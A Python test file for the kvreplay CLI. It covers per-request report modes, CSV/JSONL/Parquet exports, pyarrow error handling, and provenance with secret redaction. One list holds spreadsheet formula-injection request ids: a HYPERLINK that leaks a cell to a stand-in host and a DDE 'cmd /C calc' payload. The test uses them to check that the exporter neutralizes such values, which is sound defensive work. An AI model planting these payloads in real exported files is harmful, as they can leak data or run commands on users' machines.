"""`kvreplay run`: --per-request modes (and the YAML key), --export formats, meta.provenance."""

from __future__ import annotations

import csv
import hashlib
import json
from collections.abc import Callable
from pathlib import Path
from typing import Any

import jsonschema
import pytest

from kvreplay.exports import COLUMNS

REPO = Path(__file__).resolve().parents[2]
EXAMPLE = REPO / "examples" / "kv-router-mooncake.yaml"
TRACE = REPO / "examples" / "traces" / "mooncake-conversation-200.jsonl"
WALL_CLOCK = ("wall_time_ms", "processed_tokens_per_s", "processed_output_tokens_per_s")


def _report(path: Path) -> dict[str, Any]:
    report: dict[str, Any] = json.loads(path.read_text())
    schema = json.loads((REPO / "schema" / "report.schema.json").read_text())
    jsonschema.Draft202012Validator(schema).validate(report)
    return report


def _sha256(path: Path) -> str:
    return "sha256:" + hashlib.sha256(path.read_bytes()).hexdigest()


def test_summary_only_leaves_rows_out(cli: Callable[..., Any], tmp_path: Path) -> None:
    """--per-request summary-only: the same summary, no rows, the mode in meta."""
    full, small = tmp_path / "full.json", tmp_path / "small.json"
    assert cli("run", str(EXAMPLE), "-o", str(full), "-q").code == 0
    assert cli("run", str(EXAMPLE), "-o", str(small), "-q", "--per-request",
               "summary-only").code == 0
    big, little = _report(full), _report(small)
    assert little["per_request"] == [] and len(big["per_request"]) == 200
    assert little["summary"] == big["summary"]
    assert (big["meta"]["per_request"], little["meta"]["per_request"]) == ("full",
                                                                          "summary-only")
    assert small.stat().st_size * 20 < full.stat().st_size


def test_yaml_key_and_flag(cli: Callable[..., Any], tmp_path: Path) -> None:
    """report.per_request in the config sets the mode; --per-request overrides it."""
    out = tmp_path / "r.json"
    key = "report.per_request=summary-only"
    assert cli("run", str(EXAMPLE), "-o", str(out), "-q", "--set", key).code == 0
    assert _report(out)["per_request"] == []
    assert cli("run", str(EXAMPLE), "-o", str(out), "-q", "--set", key,
               "--per-request", "full").code == 0
    assert len(_report(out)["per_request"]) == 200


def test_yaml_key_compiles_to_record_per_request(cli: Callable[..., Any]) -> None:
    """The key lowers to the native spec's record_per_request; a wrong value is a finding."""
    ran = cli("compile", str(EXAMPLE), "--set", "report.per_request=summary-only")
    assert ran.code == 0 and json.loads(ran.out)["spec"]["record_per_request"] is False
    bad = cli("compile", str(EXAMPLE), "--set", "report.per_request=some")
    assert bad.code == 1 and "summary-only" in bad.out + bad.err


def test_exports_hold_the_report_rows(cli: Callable[..., Any], tmp_path: Path) -> None:
    """CSV and JSONL exports hold the rows of the report, also under summary-only."""
    report, rows_csv, rows_jsonl = (tmp_path / n for n in ("r.json", "r.csv", "r.jsonl"))
    assert cli("run", str(EXAMPLE), "-o", str(report), "-q").code == 0
    rows = _report(report)["per_request"]
    ran = cli("run", str(EXAMPLE), "-q", "--per-request", "summary-only",
              "--export", str(rows_csv), "--export", str(rows_jsonl))
    assert ran.code == 0, ran.err
    assert [json.loads(line) for line in rows_jsonl.read_text().splitlines()] == rows
    with rows_csv.open(newline="") as f:
        table = list(csv.reader(f))
    assert table[0] == [name for name, _ in COLUMNS]
    assert len(table) == 201
    first = dict(zip(table[0], table[1], strict=True))
    assert first["uuid"] == rows[0]["uuid"]
    assert float(first["ttft_ms"]) == rows[0]["ttft_ms"]
    assert first["request_id"] == "" and rows[0]["request_id"] is None
    assert json.loads(first["routing_history"]) == rows[0]["routing_history"]


def test_exports_split_the_reuse_down_to_g3(cli: Callable[..., Any], tmp_path: Path) -> None:
    """g3-restore-mooncake: the CSV and Parquet exports carry the G3 share of the first
    admission's reuse (8 tokens of the last request came up from G3); without G3 the column
    is empty."""
    example = REPO / "examples" / "g3-restore-mooncake.yaml"
    rows_csv, plain_csv = tmp_path / "g3.csv", tmp_path / "plain.csv"
    assert cli("run", str(example), "-q", "--export", str(rows_csv)).code == 0
    assert cli("run", str(example), "-q", "--export", str(plain_csv), "--set",
               "engine.workers.aggregated.kv_cache.g3_offload=null").code == 0
    key = "first_admission_g3_reused_input_tokens"
    for path, expected in ((rows_csv, ["0", "0", "0", "8"]), (plain_csv, ["", "", "", ""])):
        with path.open(newline="") as f:
            assert [r[key] for r in csv.DictReader(f)] == expected
    pq = pytest.importorskip("pyarrow.parquet")
    out = tmp_path / "g3.parquet"
    assert cli("run", str(example), "-q", "--export", str(out)).code == 0
    assert pq.read_table(out).column(key).to_pylist() == [0, 0, 0, 8]


HOSTILE_IDS = ["=HYPERLINK(\"http://x.test/?\"&A1,\"click\")", "+1+cmd|' /C calc'!A0",
               "-2+3", "@SUM(A1:A9)", "\ttab", "\rcr first", "cr\rinside", "lf\ninside",
               'say "hi"', "a,b", "a;=1+2", "plain", "", "0", "'quoted", "=", "\u00e9t\u00e9"]


def test_csv_export_quotes_and_neutralizes_trace_text(cli: Callable[..., Any],
                                                      tmp_path: Path) -> None:
    """17 requests whose request ids begin with `=`, `+`, `-`, `@`, tab or CR, or hold a CR,
    LF, quote, comma or semicolon: a CSV reader sees 17 rows (not 18), each id back with a `'`
    before a formula's first character and nothing else changed; numbers stay numbers."""
    trace = tmp_path / "hostile.jsonl"
    trace.write_text("".join(json.dumps({"timestamp": 10 * i, "input_length": 4,
                                         "output_length": 2, "hash_ids": [i],
                                         "request_id": rid}) + "\n"
                             for i, rid in enumerate(HOSTILE_IDS)))
    out = tmp_path / "rows.csv"
    ran = cli("run", str(EXAMPLE), "--trace", str(trace), "--export", str(out), "-q")
    assert ran.code == 0, ran.err
    with out.open(newline="") as f:
        table = list(csv.reader(f))
    assert len(table) == 1 + len(HOSTILE_IDS) == 18
    ids = [line[table[0].index("request_id")] for line in table[1:]]
    neutral = ["'" + rid if rid[:1] in ("=", "+", "-", "@", "\t", "\r") else rid
               for rid in HOSTILE_IDS]
    assert ids == neutral
    assert all(not cell or cell[0] not in "=+-@\t\r" for line in table for cell in line
               if not cell.lstrip("-").replace(".", "", 1).isdigit())
    text = out.read_bytes().decode("utf-8")
    assert text.count("\n") - sum(rid.count("\n") for rid in HOSTILE_IDS) == 18
    assert text.splitlines()[0].startswith("uuid,request_id,session_id,")


def test_parquet_export(cli: Callable[..., Any], tmp_path: Path) -> None:
    """The Parquet export has typed columns in COLUMNS order, one row per request."""
    pq = pytest.importorskip("pyarrow.parquet")
    out, rows_jsonl = tmp_path / "r.parquet", tmp_path / "r.jsonl"
    ran = cli("run", str(EXAMPLE), "-q", "--export", str(out), "--export", str(rows_jsonl))
    assert ran.code == 0, ran.err
    table = pq.read_table(out)
    rows = [json.loads(line) for line in rows_jsonl.read_text().splitlines()]
    assert table.schema.names == [name for name, _ in COLUMNS]
    assert str(table.schema.field("ttft_ms").type) == "double"
    assert table.column("ttft_ms").to_pylist() == [r["ttft_ms"] for r in rows]
    assert table.column("input_length").to_pylist() == [r["input_length"] for r in rows]


def test_parquet_without_pyarrow_is_a_usage_error(cli: Callable[..., Any], tmp_path: Path,
                                                  monkeypatch: pytest.MonkeyPatch) -> None:
    """No pyarrow: exit 2 before the replay, naming the extra to install."""
    import importlib.util

    real = importlib.util.find_spec
    monkeypatch.setattr(importlib.util, "find_spec",
                        lambda name, *a: None if name == "pyarrow" else real(name, *a))
    ran = cli("run", str(EXAMPLE), "--export", str(tmp_path / "r.parquet"))
    assert ran.code == 2
    assert "kvreplay[parquet]" in ran.err and "requests" not in ran.out


@pytest.mark.parametrize(("planted", "said"), [
    ("", "ModuleNotFoundError: No module named 'pyarrow.parquet'"),
    ("raise ImportError('libarrow.so.2600: cannot open shared object file')",
     "ImportError: libarrow.so.2600: cannot open shared object file"),
])
def test_parquet_with_a_pyarrow_that_does_not_import(cli_process: Callable[..., Any],
                                                     tmp_path: Path, planted: str,
                                                     said: str) -> None:
    """A pyarrow half removed (no pyarrow.parquet), or one whose library is missing (planted
    first on the path): exit 2 before the replay, naming the extra to install, not an
    internal ImportError."""
    shadow = tmp_path / "shadow" / "pyarrow"
    shadow.mkdir(parents=True)
    (shadow / "__init__.py").write_text(planted)
    out = tmp_path / "r.parquet"
    ran = cli_process("run", str(EXAMPLE), "--export", str(out),
                      env={"PYTHONPATH": str(shadow.parent)})
    assert ran.code == 2 and ran.out == ""
    assert "internal error" not in ran.err
    assert said in ran.err and "pip install 'kvreplay[parquet]'" in ran.err
    assert not out.exists()


def test_a_sweep_with_a_pyarrow_that_does_not_import_says_so(cli_process: Callable[..., Any],
                                                             tmp_path: Path) -> None:
    """`kvreplay sweep` where pyarrow is installed but does not import (a missing library):
    the tables are written without results.parquet, and the sweep says why once, on stderr
    (with the error) and in sweep.json (its type, no path); a results.parquet left by an
    earlier run is removed, saying so, since it would not match the new table."""
    shadow = tmp_path / "shadow" / "pyarrow"
    shadow.mkdir(parents=True)
    (shadow / "__init__.py").write_text(
        "raise ImportError('libarrow.so.2600: cannot open shared object file')")
    out = tmp_path / "results"
    out.mkdir()
    (out / "results.parquet").write_bytes(b"PAR1 from an earlier run")
    ran = cli_process("sweep", str(REPO / "examples" / "sweeps" / "g2-host-blocks.yaml"),
                      "-o", str(out), "--jobs", "1", env={"PYTHONPATH": str(shadow.parent)})
    assert ran.code == 0, ran.err
    said = ("results.parquet was not written: pyarrow is installed but does not import "
            "(ImportError{}); reinstall it (pip install 'kvreplay[parquet]' --force-reinstall)")
    assert ran.err.count("results.parquet was not written") == 1
    assert f"kvreplay: note: {said.format(': libarrow.so.2600: cannot open shared object file')}" \
        in ran.err
    assert f"removed {out / 'results.parquet'} from an earlier run" in ran.err
    assert json.loads((out / "sweep.json").read_text())["notes"] == [said.format("")]
    assert sorted(p.name for p in out.iterdir()) == [
        "best.json", "reports", "results.csv", "results.jsonl", "sweep.json"]
    assert "(and .jsonl)" in ran.out


@pytest.mark.parametrize(("name", "message"), [("rows.txt", "unknown format .txt"),
                                               ("rows", "(no suffix)")])
def test_unknown_export_format(cli: Callable[..., Any], tmp_path: Path, name: str,
                               message: str) -> None:
    """An export path without a known suffix: exit 2, nothing written."""
    ran = cli("run", str(EXAMPLE), "--export", str(tmp_path / name))
    assert ran.code == 2 and message in ran.err
    assert not (tmp_path / name).exists()


def test_export_that_is_an_input_or_the_report_is_refused(cli: Callable[..., Any],
                                                          tmp_path: Path) -> None:
    """An export onto the trace, or onto the -o report: exit 2, nothing run."""
    ran = cli("run", str(EXAMPLE), "--trace", str(TRACE), "--export", str(TRACE))
    assert ran.code == 2 and "it is the trace" in ran.err
    same = tmp_path / "r.jsonl"
    ran = cli("run", str(EXAMPLE), "-o", str(same), "--export", str(same))
    assert ran.code == 2 and "it is the -o report" in ran.err


def test_provenance_names_config_traces_and_command(cli: Callable[..., Any],
                                                     tmp_path: Path) -> None:
    """meta.provenance: config and trace digests of their bytes, the command line with the
    secret redacted; a second run gives the same meta but for the wall clock."""
    first, second = tmp_path / "a.json", tmp_path / "b.json"
    secret = "https://user:hunter2@example.invalid/x"
    for out in (first, second):
        assert cli("run", str(EXAMPLE), "-o", str(out), "-q", "--set",
                   f"engine.hardware={secret}").code == 0
    meta = _report(first)["meta"]
    prov = meta["provenance"]
    assert prov["config"] == {"path": str(EXAMPLE), "digest": _sha256(EXAMPLE)}
    assert prov["traces"] == [{"path": "traces/mooncake-conversation-200.jsonl",
                               "digest": _sha256(TRACE)}]
    assert "hunter2" not in json.dumps(prov)
    assert "engine.hardware=https://***@example.invalid/x" in prov["command"]
    other = _report(second)["meta"]
    for meta_of in (meta, other):
        for key in WALL_CLOCK:
            meta_of.pop(key)
    assert {**meta, "provenance": None} == {**other, "provenance": None}
    assert [a.replace("a.json", "b.json") for a in prov["command"]] == \
        other["provenance"]["command"]
